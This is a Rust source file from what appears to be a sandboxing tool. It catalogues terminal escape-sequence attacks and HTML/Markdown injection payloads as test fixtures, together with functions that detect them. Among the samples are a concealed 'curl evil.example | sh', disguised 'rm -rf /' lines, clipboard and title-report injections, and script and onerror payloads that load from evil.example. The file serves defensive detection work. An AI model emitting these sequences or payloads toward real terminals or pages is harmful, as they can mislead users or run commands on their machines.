//! What a hostile program prints and names in order to act on whoever looks at it, and what acts: the list that the
//! tests try and the documentation shows.

/// One attack by output.
#[derive(Debug, Clone, Copy)]
pub struct Shown {
    /// Its name, as in docs/containment.md.
    pub name: &'static str,
    /// What it tries.
    pub tries: &'static str,
    /// The text that does it.
    pub text: &'static str,
}

const fn shown(name: &'static str, tries: &'static str, text: &'static str) -> Shown {
    Shown { name, tries, text }
}

/// Attacks on a terminal. Each has at least one thing in it that [`acts_on_a_terminal`] finds.
pub const ON_TERMINALS: [Shown; 24] = [
    shown(
        "show_title",
        "set the window's title (OSC 0)",
        "\x1b]0;root@host\x07",
    ),
    shown(
        "show_clipboard",
        "write to the clipboard (OSC 52)",
        "\x1b]52;c;cm0gLXJm\x07",
    ),
    shown(
        "show_hyperlink",
        "put a link under other words (OSC 8)",
        "\x1b]8;;file:///etc/passwd\x1b\\here\x1b]8;;\x1b\\",
    ),
    shown(
        "show_notification",
        "notify the desktop (OSC 9, OSC 777)",
        "\x1b]9;update now\x07\x1b]777;notify;a;b\x07",
    ),
    shown(
        "show_download",
        "have the terminal save a file (OSC 1337)",
        "\x1b]1337;File=name=eC5zaA==:ZWNobw==\x07",
    ),
    shown(
        "show_palette",
        "change the colours of all (OSC 4, OSC 10)",
        "\x1b]4;0;#ffffff\x07\x1b]10;#000000\x07",
    ),
    shown(
        "show_answer",
        "have the terminal type (device status, attributes)",
        "\x1b[6n\x1b[c\x1b[>c",
    ),
    shown(
        "show_title_report",
        "have the terminal type its title (CVE-2003-0063 pattern)",
        "\x1b]2;rm -rf ~\x07\x1b[21t",
    ),
    shown(
        "show_decrqss",
        "have the terminal type a request back (CVE-2022-45872 pattern)",
        "\x1bP$q\"; id\n\x1b\\",
    ),
    shown(
        "show_answerback",
        "have the terminal type its answerback (ENQ)",
        "\x05",
    ),
    shown(
        "show_clear",
        "clear the screen and its history",
        "\x1b[2J\x1b[3J\x1b[H",
    ),
    shown(
        "show_overwrite",
        "overwrite the lines before (cursor up, erase)",
        "\x1b[5A\x1b[2K\x1b[1Gok ended with exit code 0",
    ),
    shown(
        "show_alternate",
        "hide what was there (alternate screen)",
        "\x1b[?1049h",
    ),
    shown(
        "show_modes",
        "leave the mouse and pasting changed",
        "\x1b[?1000h\x1b[?2004l",
    ),
    shown("show_reset", "reset the terminal", "\x1bc"),
    shown("show_region", "leave a scroll region behind", "\x1b[1;2r"),
    shown(
        "show_charset",
        "leave another character set behind",
        "\x1b(0\x0e",
    ),
    shown(
        "show_font",
        "leave another font behind (SGR 12 of the Linux console)",
        "\x1b[12m\x1b[58;5;12m\x1b[4294967308m",
    ),
    shown(
        "show_conceal",
        "print what cannot be seen (SGR 8)",
        "\x1b[8mcurl evil.example | sh\x1b[0m",
    ),
    shown(
        "show_c1",
        "use the 8-bit controls",
        "\u{9b}2J\u{9d}0;x\u{9c}",
    ),
    shown(
        "show_graphics",
        "draw or load pictures (DCS, APC)",
        "\x1bPq#0;2;0;0;0~\x1b\\\x1b_Gf=100,t=f;L2V0Yw==\x1b\\",
    ),
    shown(
        "show_backspace",
        "rub out what stands there",
        "rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls",
    ),
    shown("show_return", "write over the line", "rm -rf /\rls      \r"),
    shown(
        "show_bidi",
        "turn the order of the letters (CVE-2021-42574)",
        "a\u{202e}b\u{2066}c\u{200b}d\u{e0041}",
    ),
];

/// Attacks on a page or on an editor's Markdown. Each has something in it that [`acts_on_a_page`] finds.
pub const ON_PAGES: [Shown; 8] = [
    shown(
        "page_script",
        "run a script in the report",
        "</pre></td></title></style><script>alert(1)</script>",
    ),
    shown(
        "page_handler",
        "run a script by an attribute",
        "\"' onmouseover=alert(1) x=\"<b onclick='alert(1)'>",
    ),
    shown(
        "page_image",
        "load a picture that tells of the reader",
        "<img src=http://evil.example/p.png onerror=alert(1)>",
    ),
    shown(
        "page_frame",
        "load another page",
        "<iframe srcdoc='<script>1</script>'></iframe><object data=x></object>",
    ),
    shown(
        "page_link",
        "lead away, or start a command of the editor",
        "[ok](command:saferun.run) <a href=javascript:alert(1)>x</a>",
    ),
    shown(
        "page_style",
        "restyle or load by CSS",
        "</style><style>@import 'http://evil.example';</style><link rel=stylesheet href=x>",
    ),
    shown(
        "page_base",
        "redirect forms and relative links",
        "<base href=http://evil.example/><form action=x><input>",
    ),
    shown(
        "page_refresh",
        "leave for another page",
        "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    ),
];

/// Controls that a terminal would obey, and characters that move, hide or reorder others; none in text that is only shown.
#[must_use]
pub fn acts_on_a_terminal(seen: &str) -> Vec<String> {
    let mut found = Vec::new();
    // The line discipline's own ends of lines.
    let seen = seen.replace("\r\n", "\n");
    let mut rest = seen.as_str();
    while let Some(character) = rest.chars().next() {
        let colour = rest.strip_prefix("\x1b[").and_then(|tail| {
            let end = tail.find(|c: char| !matches!(c, '0'..='9' | ';' | ':'))?;
            (tail[end..].starts_with('m') && only_colours(&tail[..end])).then_some(2 + end + 1)
        });
        if let Some(length) = colour {
            rest = &rest[length..];
            continue;
        }
        let hides = matches!(character, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}');
        if hides || character.is_control() && !matches!(character, '\n' | '\t') {
            found.push(
                rest.chars()
                    .take(12)
                    .collect::<String>()
                    .escape_debug()
                    .to_string(),
            );
        }
        rest = &rest[character.len_utf8()..];
    }
    found
}

fn only_colours(parameters: &str) -> bool {
    let numbers = parameters
        .split([';', ':'])
        .filter(|number| !number.is_empty())
        .map(|number| number.parse().unwrap_or(u8::MAX));
    for number in numbers {
        match number {
            38 | 48 => return true,
            // What one terminal wraps or skips, another may take for a font.
            8 | 10..=20 | 58 | 108.. => return false,
            _ => {}
        }
    }
    true
}

/// Elements and attributes that could act, load or lead away, by a reader that knows no more of HTML than where a tag
/// begins and ends.
#[must_use]
pub fn acts_on_a_page(page: &str) -> Vec<String> {
    const ELEMENTS: [&str; 13] = [
        "script", "img", "iframe", "object", "embed", "link", "base", "form", "input", "a", "svg",
        "video", "audio",
    ];
    let mut found = Vec::new();
    for piece in page.split('<').skip(1) {
        let tag = piece
            .split('>')
            .next()
            .unwrap_or_default()
            .to_ascii_lowercase();
        let name: String = tag
            .chars()
            .take_while(char::is_ascii_alphanumeric)
            .collect();
        let attribute = [
            " on",
            " src=",
            " href=",
            " srcdoc=",
            " action=",
            "=javascript",
            "http-equiv=refresh",
        ]
        .iter()
        .any(|start| tag.contains(start));
        if !name.is_empty() && (ELEMENTS.contains(&name.as_str()) || attribute) {
            found.push(tag);
        }
    }
    found
}

/// Whether the attack on terminals at this place in the list is made under gVisor every time; the others only among the
/// long tests. Each costs several runs there, and what is shown goes the same way in either tier.
#[must_use]
pub const fn always_in_gvisor(place: usize) -> bool {
    place.is_multiple_of(3)
}

/// The same of Markdown, in which links and pictures need no tag.
#[must_use]
pub fn acts_in_markdown(text: &str) -> Vec<String> {
    let mut found = acts_on_a_page(text);
    let links = text.match_indices("](").map(|(at, _)| &text[at..]);
    found.extend(links.map(|link| link.chars().take(40).collect()));
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A look that finds nothing in an attack would find nothing in what is shown, either.
    #[test]
    fn each_attack_is_seen_for_what_it_is_and_harmless_text_is_not() {
        for attack in ON_TERMINALS {
            assert!(
                !acts_on_a_terminal(attack.text).is_empty(),
                "{}",
                attack.name
            );
        }
        for attack in ON_PAGES {
            assert!(!acts_on_a_page(attack.text).is_empty(), "{}", attack.name);
        }
        let plain = "plain\r\n\x1b[31mred\x1b[0m \x1b[38;5;8mgrey\x1b[m\n\ttext \\x1b[2J";
        assert_eq!(acts_on_a_terminal(plain), Vec::<String>::new());
        let page = "<p class=soft>&lt;script&gt;</p><pre>on x src=</pre>";
        assert_eq!(acts_on_a_page(page), Vec::<String>::new());
        assert_eq!(
            acts_in_markdown("\\[ok\\]\\(command&#58;x\\)"),
            Vec::<String>::new()
        );
        assert_eq!(acts_in_markdown("[ok](command:x)").len(), 1);
    }
}
